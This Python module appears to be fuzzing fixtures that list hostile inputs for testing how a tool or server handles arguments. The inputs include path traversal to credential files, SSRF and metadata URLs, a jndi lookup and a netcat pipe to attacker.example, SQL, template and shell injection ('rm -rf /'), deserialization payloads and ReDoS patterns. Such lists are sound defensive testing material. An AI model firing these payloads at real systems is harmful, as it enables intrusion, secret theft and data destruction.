"""What an attacker writes where a tool expects a word: lists, each with what it would do to a careless server."""

from __future__ import annotations

from typing import Any

TRAVERSAL = [
    "../" * 12 + "etc/passwd",
    "/etc/passwd",
    "/proc/self/environ",
    "~/.ssh/id_rsa",
    "..\\..\\windows\\system32\\config\\sam",
    "C:\\Windows\\win.ini",
    "\\\\attacker.example\\share",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%252f..%252fetc%252fpasswd",
    "..%c0%af..%c0%afetc/passwd",
    "/etc/passwd\x00.txt",
    "....//....//etc/passwd",
    "․․/․․/etc/passwd",
    "．．／．．／etc／passwd",
    "file:///etc/passwd",
]
REQUESTS = [
    "http://169.254.169.254/latest/meta-data/",
    "http://127.0.0.1:22/",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "//attacker.example/x",
    "${jndi:ldap://attacker.example/a}",
    '<img src=x onerror="alert(1)">',
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
]
CODE = [
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{0.__class__.__mro__}",
    "{self.__init__.__globals__}",
    "%s%s%s%n%x",
    "%(password)s",
    "$HOME",
    "__import__('os').system('id')",
    "'; DROP TABLE accounts; --",
    "' OR '1'='1",
    '" UNION SELECT * FROM responses --',
    "; rm -rf / #",
    "$(touch /tmp/owned)",
    "`id`",
    "| nc attacker.example 4444",
    "=cmd|'/C calc'!A0",
    "!!python/object/apply:os.system ['id']",
    "cos\nsystem\n(S'id'\ntR.",
]
MARKS = [
    "",
    " ",
    "\x00",
    "a\r\nSet-Cookie: owned=1\r\n\r\n",
    *(
        f"{text}\n"
        for text in ("2025-03-14T09:30", "2025-03", "09:30", "1234", "644", "ABC", "csv", "14C", "on", "a@b.co")
    ),
    "２０２５-０３-１４T０９:３０",
    "٢٠٢٥-٠٣",
    "1४C",
    "\x1b]52;c;cm0gLXJmIC8=\x07\x1b[2J",
    "\u202etxt.exe",
    "\u2066\u2067admin\u2069",
    "аdmin",
    "ADM\u0130N",
    "１２３４",
    "١٢٣٤",
    "\ufeff\u200b\u200d",
    "e" + "\u0301" * 200,
    "ﷺ" * 100,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 20,
    "\uffff\U0010ffff",
    "\ud800",
    "\udfff\ud83d",
]
PATTERNS = [
    "(a+)+$",
    "(.*)*\\1",
    "(?:a|a)*b",
    "(" * 200 + ")" * 200,
    "[",
    "*" * 60 + "b",
    "**/" * 40 + "x",
    "{a,b}" * 30,
    "?" * 80,
    "[!-~]*" * 12,
]
STUFFED = [
    "a" * 41 + "!",
    "a@" + "a." * 9_000 + "@",
    "a@" + "." * 39 + " ",
    " " * 19_000 + "x",
    "x" + " " * 19_000 + "\n",
    "#" * 19_000,
    "@a" * 9_500,
    "9" * 19_000,
    "0." + "0" * 19_000 + "1e",
    "\n" * 19_000,
    "/" * 19_000,
    "../" * 6_000,
    "a/" * 9_000,
    "x" * 1_000_000,
    "é" * 20_001,
]
TAILS = ["\n", "\r\n", "\x00", "\u202e", "/..", "'", "%00"]
"""What stands behind an argument that works."""
TEXTS = [*TRAVERSAL, *REQUESTS, *CODE, *MARKS, *PATTERNS, *STUFFED]


def nested(depth: int) -> Any:
    """[[[…]]]: what exhausts a recursive reader."""
    value: Any = []
    for _ in range(depth):
        value = [value]
    return value


def wide(width: int) -> dict[str, Any]:
    return {f"k{number}": number for number in range(width)}


OTHERS: list[Any] = [
    float("nan"),
    float("inf"),
    float("-inf"),
    10**400,
    -(2**63) - 1,
    2**63,
    2**53 + 1,
    1e308,
    5e-324,
    -0.0,
    0,
    -1,
    True,
    None,
    [],
    {},
    nested(5),
    nested(500),
    nested(50_000),
    ["\ud800"],
    ["x" * 30_000],
    ["../../etc/passwd"] * 20,
    ["a"] * 20_001,
    wide(3),
    wide(20_001),
    {"__proto__": {"admin": True}, "constructor": {}},
    {"$ref": "file:///etc/passwd"},
    {"\ud800": 1},
]
